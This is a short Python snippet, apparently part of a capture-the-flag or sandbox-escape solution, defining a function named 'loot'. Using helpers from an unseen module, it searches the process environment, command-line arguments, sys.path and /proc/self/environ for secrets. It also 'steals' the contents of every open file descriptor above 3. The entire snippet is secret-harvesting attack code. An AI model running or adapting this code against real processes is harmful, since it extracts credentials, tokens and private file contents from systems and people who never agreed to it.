# %%
from kit import *

# %%
def loot():
    found = [search(os.environb.get(name, b"")) for name in os.environb]
    found += [search(" ".join([*sys.argv, *sys.orig_argv, *sys.path]).encode())]
    with open("/proc/self/environ", "rb") as file:
        found.append(search(file.read()))
    for number in os.listdir("/proc/self/fd"):
        if int(number) > 3:
            found.append(steal(f"/proc/self/fd/{number}"))
    return next(filter(None, found), None)
